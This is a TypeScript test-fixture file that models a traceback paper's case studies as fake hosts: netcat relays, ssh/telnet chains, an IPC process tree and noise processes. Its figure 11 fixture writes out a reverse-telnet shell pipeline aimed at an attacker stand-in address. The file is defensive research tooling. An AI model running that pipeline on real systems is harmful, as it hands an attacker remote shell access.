/**
 * Test support: the paper's case studies (figures 6, 7/8, 9/10 and 11/12) as in-memory
 * hosts, for the closure tests, the daemon's tests and the benchmarks. The paper's hosts
 * 1.1.1.1, 2.2.2.2 and 3.3.3.3 become documentation addresses (RFC 5737).
 */
import { FakeHost } from '../host/fake-host.js';
import type { Endpoint, TcpSocket } from '../host/types.js';

/** H(i-1), the previous hop (the paper's 1.1.1.1; the attacker in figure 11). */
export const PREVIOUS_HOST = '192.0.2.1';
/** H(i), the host analysed (the paper's 2.2.2.2). */
export const THIS_HOST = '198.51.100.2';
/** H(i+1), the requester (the paper's 3.3.3.3; the IDS in figure 11). */
export const NEXT_HOST = '203.0.113.3';

/** A built figure: the host, the queried connection as `findTcp` returns it, and the pids by label. */
export interface FigureFixture<Label extends string> {
  readonly host: FakeHost;
  readonly socket: TcpSocket;
  readonly pids: Readonly<Record<Label, number>>;
  /** The connection from the previous hop that a traceback must find (undefined: none). */
  readonly upstream: { readonly local: Endpoint; readonly remote: Endpoint } | undefined;
}

function queried(host: FakeHost, local: Endpoint, remote: Endpoint): TcpSocket {
  const socket = host.findTcp(local, remote);
  if (socket === undefined) throw new Error('Figure fixture lost its queried socket');
  return socket;
}

/**
 * Figure 6, `nc -l -p 8888 | nc H(i+1) 8889` run from a console shell: the pipe is the only
 * link from the process with the queried socket to the one with the previous hop's.
 * `listenerOpen: false` models Hobbit's netcat (the paper's), which closes its listening
 * socket after accept; OpenBSD netcat (Debian's default) keeps it open. Default true.
 */
export function buildFigure6(
  options: { readonly listenerOpen?: boolean } = {},
): FigureFixture<'init' | 'bash' | 'ncListen' | 'ncConnect'> {
  const pids = { init: 1, bash: 2310, ncListen: 2311, ncConnect: 2312 };
  const host = new FakeHost({ localAddresses: [THIS_HOST] })
    .addProcess({ pid: pids.init, ppid: 0, name: 'init', cmdline: ['/sbin/init'] })
    .addProcess({ pid: pids.bash, ppid: pids.init, name: 'bash', tty: '/dev/tty1', cmdline: ['-bash'] })
    .addProcess({
      pid: pids.ncListen,
      ppid: pids.bash,
      name: 'nc',
      tty: '/dev/tty1',
      pgid: pids.ncListen,
      sid: pids.bash,
      cmdline: ['nc', '-l', '-p', '8888'],
    })
    .addProcess({
      pid: pids.ncConnect,
      ppid: pids.bash,
      name: 'nc',
      tty: '/dev/tty1',
      pgid: pids.ncListen,
      sid: pids.bash,
      cmdline: ['nc', NEXT_HOST, '8889'],
    });
  host.addPipe(pids.ncListen, pids.ncConnect);
  if (options.listenerOpen ?? true) host.addListener(pids.ncListen, { address: '0.0.0.0', port: 8888 });
  const upstream = { local: { address: THIS_HOST, port: 8888 }, remote: { address: PREVIOUS_HOST, port: 51000 } };
  host.addTcp({ pid: pids.ncListen, ...upstream });
  const local = { address: THIS_HOST, port: 41000 };
  const remote = { address: NEXT_HOST, port: 8889 };
  host.addTcp({ pid: pids.ncConnect, local, remote });
  return { host, socket: queried(host, local, remote), pids, upstream };
}

/**
 * Figures 7 and 8: Alice on H(i-1) logs in to H(i) with ssh and telnets from there to
 * H(i+1): telnet [8339] <- csh [8338] <- sshd [8337] <- sshd [8000] (listening) <- init [1].
 */
export function buildFigure7(): FigureFixture<'init' | 'sshd' | 'sshdSession' | 'csh' | 'telnet'> {
  const pids = { init: 1, sshd: 8000, sshdSession: 8337, csh: 8338, telnet: 8339 };
  const alice = 1000;
  const host = new FakeHost({ localAddresses: [THIS_HOST] })
    .addProcess({ pid: pids.init, ppid: 0, name: 'init', cmdline: ['/sbin/init'] })
    .addProcess({ pid: pids.sshd, ppid: pids.init, name: 'sshd', cmdline: ['/usr/sbin/sshd'] })
    .addProcess({ pid: pids.sshdSession, ppid: pids.sshd, name: 'sshd', cmdline: ['sshd: alice [priv]'] })
    .addProcess({
      pid: pids.csh,
      ppid: pids.sshdSession,
      name: 'csh',
      uid: alice,
      tty: '/dev/pts/1',
      cmdline: ['-csh'],
    })
    .addProcess({
      pid: pids.telnet,
      ppid: pids.csh,
      name: 'telnet',
      uid: alice,
      tty: '/dev/pts/1',
      cmdline: ['telnet', NEXT_HOST],
    });
  host.addListener(pids.sshd, { address: '0.0.0.0', port: 22 });
  const upstream = { local: { address: THIS_HOST, port: 22 }, remote: { address: PREVIOUS_HOST, port: 616 } };
  host.addTcp({ pid: pids.sshdSession, ...upstream });
  const local = { address: THIS_HOST, port: 968 };
  const remote = { address: NEXT_HOST, port: 23 };
  host.addTcp({ pid: pids.telnet, local, remote });
  return { host, socket: queried(host, local, remote), pids, upstream };
}

/** Labels of figure 9. */
export type Figure9Label = 'init' | `P${1 | 2 | 3 | 4 | 5 | 6 | 7 | 8 | 9 | 10 | 11 | 12}`;

/**
 * Figures 9 and 10, the complex structure: 13 processes (the paper's 14 count `swapper [0]`,
 * which Linux has no /proc entry for), three process groups (P1; P2; P3 and its nine
 * descendants) and six IPC channels: pipes P8,P12 -> P4, P11 -> P12, P9 -> P10, P5 -> P8,
 * and loopback TCP P1 -> P2 (port 8011) and P2 -> P5 (port 8012). Data flows from H(i-1)
 * into P1 (port 8010) and, through P2, P5 and P8, to P4, which holds the queried connection
 * to H(i+1). Pipe directions of P11/P12 and P9/P10 are not given by the paper; chosen here.
 */
export function buildFigure9(): FigureFixture<Figure9Label> {
  const pids: Record<Figure9Label, number> = {
    init: 1,
    P1: 3001,
    P2: 3002,
    P3: 3003,
    P4: 3004,
    P5: 3005,
    P6: 3006,
    P7: 3007,
    P8: 3008,
    P9: 3009,
    P10: 3010,
    P11: 3011,
    P12: 3012,
  };
  const parents: [Figure9Label, Figure9Label][] = [
    ['P1', 'init'],
    ['P2', 'init'],
    ['P3', 'init'],
    ['P4', 'P3'],
    ['P5', 'P3'],
    ['P6', 'P4'],
    ['P7', 'P4'],
    ['P8', 'P5'],
    ['P9', 'P6'],
    ['P10', 'P7'],
    ['P11', 'P10'],
    ['P12', 'P10'],
  ];
  const host = new FakeHost({ localAddresses: [THIS_HOST] });
  host.addProcess({ pid: pids.init, ppid: 0, name: 'init', cmdline: ['/sbin/init'] });
  for (const [label, parent] of parents) {
    const pgid = label === 'P1' ? pids.P1 : label === 'P2' ? pids.P2 : pids.P3;
    host.addProcess({
      pid: pids[label],
      ppid: pids[parent],
      name: 'resolve',
      uid: 1000,
      pgid,
      sid: pids.P1,
      cmdline: ['./resolve', label],
    });
  }
  // P1: listens on 8010, accepted H(i-1), connects to P2.
  host.addListener(pids.P1, { address: '0.0.0.0', port: 8010 });
  const upstream = { local: { address: THIS_HOST, port: 8010 }, remote: { address: PREVIOUS_HOST, port: 1874 } };
  host.addTcp({ pid: pids.P1, ...upstream });
  host.addListener(pids.P2, { address: '127.0.0.1', port: 8011 });
  host.connectLocalTcp(pids.P1, pids.P2, {
    client: { address: '127.0.0.1', port: 39352 },
    server: { address: '127.0.0.1', port: 8011 },
  });
  host.addListener(pids.P5, { address: '127.0.0.1', port: 8012 });
  host.connectLocalTcp(pids.P2, pids.P5, {
    client: { address: '127.0.0.1', port: 32145 },
    server: { address: '127.0.0.1', port: 8012 },
  });
  // Pipe A (paper E08CA780/E07F2600): P8 and P12 write, P4 reads.
  const pipeA = host.addPipe(pids.P8, pids.P4);
  host.shareFd(pids.P12, pipeA, { end: 'write' });
  host.addPipe(pids.P5, pids.P8); // D: E07E8080/E08CA380
  host.addPipe(pids.P11, pids.P12); // B: E0801880/E08CAE80
  host.addPipe(pids.P9, pids.P10); // C: E0801400/E0801C00
  const local = { address: THIS_HOST, port: 8526 };
  const remote = { address: NEXT_HOST, port: 9010 };
  host.addTcp({ pid: pids.P4, local, remote });
  return { host, socket: queried(host, local, remote), pids, upstream };
}

/** Figure 12's pipe inodes (0x38AB64, 0x38AB65). */
export const FIGURE_11_PIPES = { telnetToShell: 0x38ab64, shellToTelnet: 0x38ab65 } as const;

/**
 * Figures 11 and 12, reverse telnet: a web server (listening on 80) was made to run
 * `telnet H(i-1) 8000 | /bin/sh | telnet H(i-1) 8001`; both telnets connect out to the
 * attacker's netcat listeners. The IDS (H(i+1)) asks about the port 8000 connection.
 * `secondTelnet` is the other outbound connection, to port 8001.
 */
export function buildFigure11(): FigureFixture<'init' | 'server' | 'telnetIn' | 'sh' | 'telnetOut'> & {
  readonly secondTelnet: { readonly local: Endpoint; readonly remote: Endpoint };
} {
  const pids = { init: 1, server: 9818, telnetIn: 10212, sh: 10213, telnetOut: 10214 };
  const www = 33;
  const host = new FakeHost({ localAddresses: [THIS_HOST] })
    .addProcess({ pid: pids.init, ppid: 0, name: 'init', cmdline: ['/sbin/init'] })
    .addProcess({ pid: pids.server, ppid: pids.init, name: 'server', uid: www, cmdline: ['/usr/sbin/server'] });
  const child = { ppid: pids.server, uid: www, pgid: pids.telnetIn, sid: pids.server } as const;
  host
    .addProcess({ pid: pids.telnetIn, name: 'telnet', cmdline: ['/bin/telnet', PREVIOUS_HOST, '8000'], ...child })
    .addProcess({ pid: pids.sh, name: 'sh', cmdline: ['/bin/sh'], ...child })
    .addProcess({ pid: pids.telnetOut, name: 'telnet', cmdline: ['/bin/telnet', PREVIOUS_HOST, '8001'], ...child });
  host.addListener(pids.server, { address: '0.0.0.0', port: 80 });
  const local = { address: THIS_HOST, port: 1885 };
  const remote = { address: PREVIOUS_HOST, port: 8000 };
  host.addTcp({ pid: pids.telnetIn, local, remote });
  host.addPipe(pids.telnetIn, pids.sh, { inode: FIGURE_11_PIPES.telnetToShell });
  host.addPipe(pids.sh, pids.telnetOut, { inode: FIGURE_11_PIPES.shellToTelnet });
  const secondTelnet = { local: { address: THIS_HOST, port: 1886 }, remote: { address: PREVIOUS_HOST, port: 8001 } };
  host.addTcp({ pid: pids.telnetOut, ...secondTelnet });
  return { host, socket: queried(host, local, remote), pids, upstream: undefined, secondTelnet };
}

/**
 * Adds `count` unrelated processes under `parentPid` (paper Table IV, "SV with 100
 * Processes"): each holds a pipe to the next, a listener-less outbound connection and a
 * UNIX socketpair, none connected to the figure. Pids start at `firstPid` (default 20000).
 */
export function addNoiseProcesses(
  host: FakeHost,
  count: number,
  options: { readonly parentPid?: number; readonly firstPid?: number } = {},
): number[] {
  const parent = options.parentPid ?? 1;
  const first = options.firstPid ?? 20_000;
  const pids: number[] = [];
  for (let i = 0; i < count; i++) {
    const pid = first + i;
    host.addProcess({ pid, ppid: parent, name: `noise${i}`, uid: 2000 });
    pids.push(pid);
    host.addTcp({ pid, local: { address: THIS_HOST, port: 40000 + (i % 20000) }, remote: { address: '192.0.2.200', port: 443 } });
    const previous = pids[i - 1];
    if (previous !== undefined) {
      host.addPipe(previous, pid);
      host.addUnixPair(previous, pid);
    }
  }
  return pids;
}

/**
 * Not a paper figure: a pre-fork server whose `count` workers (pids 100, 101, ...) all hold
 * both ends of one inherited pipe, the first worker the queried connection to the next host
 * (issue 13: pairwise, the pipe alone needs count^2 links).
 */
export function buildSharedPipe(count: number): { host: FakeHost; socket: TcpSocket; pipe: number } {
  const host = new FakeHost({ localAddresses: [THIS_HOST] })
    .addProcess({ pid: 1, ppid: 0, name: 'init' })
    .addProcess({ pid: 2, ppid: 1, name: 'server' });
  for (let i = 0; i < count; i++) host.addProcess({ pid: 100 + i, ppid: 2, name: 'worker' });
  const pipe = host.addPipe(100, 100);
  for (let i = 1; i < count; i++) host.shareFd(100 + i, pipe, { end: 'both' });
  const local = { address: THIS_HOST, port: 22 };
  const remote = { address: NEXT_HOST, port: 40000 };
  host.addTcp({ pid: 100, local, remote });
  const socket = host.findTcp(local, remote);
  if (socket === undefined) throw new Error('Cannot build the shared pipe: the queried socket is missing');
  return { host, socket, pipe };
}
